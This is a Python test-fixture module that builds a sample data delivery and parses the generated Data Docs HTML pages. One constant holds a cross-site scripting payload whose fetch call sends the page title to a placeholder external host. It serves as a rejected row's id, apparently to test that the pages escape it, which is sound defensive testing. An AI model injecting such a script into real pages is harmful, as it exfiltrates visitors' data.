"""A delivered day for tests of its Data Docs, and what stands on their pages."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

from tests.spark_jobs.candidate_rows import DT, ProfiledDelivery
from vitrine.catalogs import Catalog, QualityThresholds
from vitrine.contracts.datasets import Manifest
from vitrine.contracts.items import Reason
from vitrine.settings import Settings

HOSTILE = "<script>fetch('https://example.org/?' + document.title)</script>"
LENIENT = QualityThresholds(max_reject_share=0.9, max_duplicate_id_share=0.9, max_missing_image_share=0.5)


@dataclass
class PageRead(HTMLParser):
    """A page's tags, links and styles, and the text inside each element that has an id; under "" all of it."""

    tags: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    style: str = ""
    texts: dict[str, list[str]] = field(default_factory=lambda: {"": []})
    within: list[tuple[str, str]] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def text(self, element_id: str) -> str:
        """Returns what an element says, on one line."""
        return " ".join(" ".join(self.texts[element_id]).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        self.tags.append(tag)
        self.links += [value for name in ("href", "src", "srcset", "action") if (value := named.get(name))]
        self.style += named.get("style") or ""
        if tag not in {"meta", "link", "br", "input", "hr", "img"}:
            self.within.append((tag, named.get("id") or ""))

    def handle_endtag(self, tag: str) -> None:
        while self.within and self.within.pop()[0] != tag:
            pass

    def handle_data(self, data: str) -> None:
        if "style" in {tag for tag, _ in self.within}:
            self.style += data
            return
        for element_id in {"", *(element_id for _, element_id in self.within)}:
            self.texts.setdefault(element_id, []).append(data)


def read_page(path: Path) -> PageRead:
    """Parses a page."""
    page = PageRead()
    page.feed(path.read_text(encoding="utf-8"))
    return page


def pages_under(folder: Path) -> list[Path]:
    """Returns all files of a site."""
    return sorted(path for path in folder.rglob("*") if path.is_file())


def local_docs(settings: Settings, catalog_id: str) -> Path:
    """Returns where the day's pages lie on this machine."""
    return settings.state_dir / "data_docs" / catalog_id / DT


def delivered_day(catalog_id: str, *, quality: QualityThresholds = LENIENT) -> ProfiledDelivery:
    """Thirteen accepted items, a deletion, and six rejected rows, one of which has a script for an id."""
    delivery = ProfiledDelivery(Catalog(catalog_id=catalog_id, quality=quality))
    for number in range(13):
        delivery.accept(f"item-{number}", title=f"Item {number}")
    delivery.delete("item-gone")
    delivery.reject(None, Reason.MALFORMED_ROW, image_uri=None)
    delivery.reject(HOSTILE, Reason.WRONG_TYPE)
    for number in range(4):
        delivery.reject(f"missing-{number}", Reason.IMAGE_MISSING)
    return delivery


def day_of(rejected_by_reason: dict[str, int]) -> Manifest:
    """Returns a day's manifest of ten accepted rows."""
    rejected = sum(rejected_by_reason.values())
    return Manifest(
        manifest_id="manifest-1",
        catalog_id="shop",
        dt=DT,
        delivery_id="delivery-1",
        full=False,
        policy_digest="p",
        space="encoder",
        dimension=None,
        rows_in=10 + rejected,
        rows_accepted=10,
        rows_rejected=rejected,
        rows_deleted=0,
        rejected_by_reason=rejected_by_reason,
        parts=(),
        quarantine_parts=(),
    )
